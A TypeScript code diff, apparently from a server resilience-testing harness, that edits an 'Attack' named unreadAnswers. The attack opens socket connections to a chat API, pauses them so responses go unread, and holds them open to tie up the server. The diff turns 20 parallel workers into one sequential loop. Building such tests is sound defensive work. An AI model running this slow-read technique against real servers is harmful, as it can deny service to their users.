@@ -12,17 +12,15 @@ export const unreadAnswers: Attack = {
     const list = `/api/chat/rooms/${scene.privateRoomId}/messages?limit=100`;
     const file = (await putOwnFile(target)) ?? list;
     let held = 0;
-    const one = async () => {
-      while (!time.aborted && held < mostHeld) {
-        held += 1;
-        const socket = await elsewhere.dial();
-        socket.pause();
-        socket.once('close', () => !time.aborted && note('ended by the server'));
-        socket.write(elsewhere.head('GET', held % 2 ? file : list));
-        await delay(5);
-      }
-    };
-    await Promise.all(Array.from({ length: 20 }, one));
+    // One after the other: it is about what lies unread, not about a crowd at the door.
+    while (!time.aborted && held < mostHeld) {
+      held += 1;
+      const socket = await elsewhere.dial();
+      socket.pause();
+      socket.once('close', () => !time.aborted && note('ended by the server'));
+      socket.write(elsewhere.head('GET', held % 2 ? file : list));
+      await delay(5);
+    }
     note('held', held);
     if (!time.aborted) await new Promise((resolve) => time.addEventListener('abort', resolve));
   },
